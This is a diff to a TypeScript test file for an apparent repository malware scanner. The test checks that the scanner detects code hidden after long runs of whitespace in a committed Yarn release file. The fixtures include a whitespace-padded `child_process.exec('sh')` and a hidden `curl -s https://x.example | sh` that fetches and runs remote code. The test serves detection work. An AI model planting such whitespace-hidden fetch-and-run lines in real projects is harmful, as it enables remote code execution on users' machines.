@@ -93,7 +93,9 @@ describe('classes of the eighth held-out set, tenth round', () => {
   it('reads a committed Yarn release for code hidden after whitespace, and nothing else of .yarn', async () => {
     expect(['.yarn', '.yarn/releases', 'app/.yarn/releases'].map(isSkippedRepositoryDirectory)).toEqual([false, false, false]);
     expect(['.yarn/cache', '.yarn/unplugged', 'node_modules', 'app/.yarn/berry'].map(isSkippedRepositoryDirectory)).toEqual([true, true, true, true]);
-    const scan = async (release: string) => (await analyzeRepository({ dir: await dirWith({ '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn-4.1.0.cjs\n', '.yarn/releases/yarn-4.1.0.cjs': release, '.yarn/cache/x.js': `x;${' '.repeat(300)}require('child_process').exec('sh')\n` }), track: 'repositories', bundleHash: null })).findings.filter((f) => f.severity !== 'LOW').map((f) => `${f.severity} ${f.file}:${String(f.line)}`);
+    // Round s27: a release is Yarn's when it has a bundle's size and names Yarn (a small file yarnPath names is code run automatically).
+    const yarnBundleTail = `// @yarnpkg/cli ${'x'.repeat(1_000_000)}\n`;
+    const scan = async (release: string) => (await analyzeRepository({ dir: await dirWith({ '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn-4.1.0.cjs\n', '.yarn/releases/yarn-4.1.0.cjs': `${release}${yarnBundleTail}`, '.yarn/cache/x.js': `x;${' '.repeat(300)}require('child_process').exec('sh')\n` }), track: 'repositories', bundleHash: null })).findings.filter((f) => f.severity !== 'LOW').map((f) => `${f.severity} ${f.file}:${String(f.line)}`);
     expect(await scan(`module.exports = 1;\nvar a = 2;${' '.repeat(300)}require('child_process').exec('curl -s https://x.example | sh')\n`)).toEqual(['HIGH .yarn/releases/yarn-4.1.0.cjs:2']);
     // Yarn's own child_process use, and blanks before a comment, are the release's business.
     expect(await scan(`var s = require('child_process').spawn;${' '.repeat(300)}// bundled\n`)).toEqual([]);
